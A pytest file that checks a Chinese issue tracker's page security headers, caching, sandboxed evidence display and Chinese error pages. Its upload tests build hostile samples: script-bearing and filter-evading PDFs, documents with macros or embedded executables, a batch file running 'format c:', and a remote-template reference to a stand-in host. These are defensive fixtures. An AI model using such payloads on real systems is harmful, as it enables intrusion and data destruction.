"""What the pages and files say about themselves: a Content-Security-Policy that allows no inline
script on every page (and pages that need none), no caching of what a signed-in user sees,
evidence that can never run script as the site, documents hiding programs or macros refused,
and tracker's own Chinese page when the database is down."""

import io
import re
import zipfile
from pathlib import Path

import pytest
from sqlalchemy import func, select

from tests import hostile
from tests.conftest import PDF, page_paths
from tracker import create_app
from tracker.extensions import db
from tracker.items.models import Evidence

INLINE_SCRIPT = re.compile(r"<script(?![^>]*\bsrc=)[^>]*>", re.I)
HANDLER = re.compile(r"""\son[a-z]+\s*=\s*["']""", re.I)


def test_every_page_forbids_inline_script_and_needs_none(app, org, world, login):
    admin = login(org.admin)
    checked = 0
    for path in page_paths(app, world):
        page = admin.get(path)
        if page.mimetype != "text/html":
            continue
        checked += 1
        policy = page.headers["Content-Security-Policy"]
        assert "script-src 'self'" in policy and "unsafe-inline" not in policy and "frame-ancestors 'none'" in policy
        html = page.get_data(as_text=True)
        assert not INLINE_SCRIPT.search(html), path
        assert not HANDLER.search(html), path
        assert ' style="' not in html and "javascript:" not in html, path
    assert checked >= 25


def test_signed_in_pages_are_never_cached_but_static_files_are(org, login, client):
    c = login(org.off_a)
    for path in ("/my", "/items", "/profile", "/notifications"):
        assert c.get(path).headers["Cache-Control"] == "no-store"
    assert client.get("/login").headers["Cache-Control"] == "no-store"
    static = client.get("/static/tracker.js")
    assert static.status_code == 200 and "no-store" not in static.headers.get("Cache-Control", "")


def test_evidence_is_shown_sandboxed_and_a_pdf_with_script_only_downloaded(org, make, login, api):
    item = make.item(org.county_a, org.off_a, status="in_progress")
    plain = make.evidence(item, org.off_a)
    scripted = make.evidence(item, org.off_a, data=hostile.pdf_with_script(), filename="带脚本.pdf")
    escaped = make.evidence(item, org.off_a, data=hostile.pdf_with_script().replace(b"/JavaScript", b"/J#61vaScript")
                            .replace(b"/JS ", b"/J#53 "), filename="转义.pdf")
    c = login(org.off_a)
    shown = c.get(f"/evidence/{plain.id}?inline=1")
    assert shown.headers["Content-Disposition"].startswith("inline")
    assert shown.headers["Content-Security-Policy"] == "sandbox" and shown.data == PDF
    refused = c.get(f"/evidence/{scripted.id}?inline=1")
    assert refused.headers["Content-Disposition"].startswith("attachment")
    assert refused.headers["Content-Security-Policy"] == "sandbox"
    assert c.get(f"/evidence/{escaped.id}?inline=1").headers["Content-Disposition"].startswith("attachment")
    assert api(org.off_a).get(f"/evidence/{plain.id}").headers["Content-Security-Policy"] == "sandbox"


@pytest.mark.parametrize("filename,data,said", [
    ("整改报告.docx", hostile.docx_with_member("word/vbaProject.bin"), "宏"),
    ("整改报告.docx", hostile.docx_with_member("word/embeddings/setup.exe"), "setup.exe"),
    ("台账.xlsx", None, "run.bat"),
    ("公文.ofd", hostile.ofd_with_member("Doc_0/Res/run.exe"), "run.exe"),
    ("公文.ofd", hostile.ofd_with_member("Doc_0/Res/more.zip", b"PK\x03\x04"), "more.zip"),
    ("旧文档.doc", hostile.ole_with_macro(), "VBA"),
    ("整改报告.docx", hostile.docx_with_member("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0"), "oleObject1.bin"),
    ("台账说明.docx", hostile.docx_with_member("word/embeddings/old.doc", b"\xd0\xcf\x11\xe0"), "old.doc"),
    ("整改报告.docx", hostile.docx_with_member(
        "word/_rels/settings.xml.rels",
        b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://198.51.100.7/t.dotm" TargetMode="External"/></Relationships>'), "外部加载模板"),
])
def test_documents_hiding_programs_or_macros_are_refused(app, org, make, login, filename, data, said):
    if data is None:  # an .xlsx carrying a batch file
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            archive.writestr("xl/workbook.xml", "<workbook/>")
            archive.writestr("xl/media/run.bat", "format c:")
        data = out.getvalue()
    item = make.item(org.county_a, org.off_a, status="in_progress")
    page = login(org.off_a).post(f"/items/{item.id}/evidence", data={"file": (io.BytesIO(data), filename)},
                                 content_type="multipart/form-data")
    assert page.status_code == 415
    assert said in page.get_data(as_text=True) and "不能上传" in page.get_data(as_text=True), page.get_data(as_text=True)
    assert db.session.scalar(select(func.count(Evidence.id))) == 0
    assert not any(path.is_file() for path in Path(app.config["UPLOAD_DIR"]).rglob("*"))


def test_with_the_database_down_pages_answer_in_chinese(app, org, tmp_path):
    """Before: Werkzeug's English "Internal Server Error", because the error page itself asked the
    database for the bell's count."""
    down = create_app({"DATABASE_URL": "postgresql+psycopg://postgres@127.0.0.1:1/none?connect_timeout=2",
                       "SECRET_KEY": "test", "TESTING": True, "UPLOAD_DIR": str(tmp_path)})
    client = down.test_client()
    with client.session_transaction() as session:  # a browser that signed in before the database went away
        session["_user_id"], session["sid"] = str(org.off_a.id), "a-live-session"
    page = client.get("/my")
    assert page.status_code == 503
    text = page.get_data(as_text=True)
    assert "数据库暂时无法连接，请稍后再试。" in text and "Internal Server Error" not in text
    assert down.test_client().get("/login").status_code == 200  # the sign-in page needs no database to show
    answer = down.test_client().get("/api/v1/items", headers={"Authorization": "Bearer trk_x"})
    assert answer.status_code == 503 and answer.get_json()["error"] == "数据库暂时无法连接，请稍后再试。"
    with down.app_context():
        db.engine.dispose()


def test_an_error_page_that_cannot_render_still_answers_in_chinese(app, monkeypatch):
    # A template that fails to render is stood in for by a failing render_template: the one case
    # here that a real request cannot bring about.
    import tracker.web.pages as web

    def broken(*args, **kwargs):
        raise RuntimeError("template machinery broken")

    monkeypatch.setattr(web, "render_template", broken)
    answer = app.test_client().get("/no-such-page")
    assert answer.status_code == 404
    assert "页面不存在" in answer.get_data(as_text=True) and "您要找的页面或事项不存在" in answer.get_data(as_text=True)
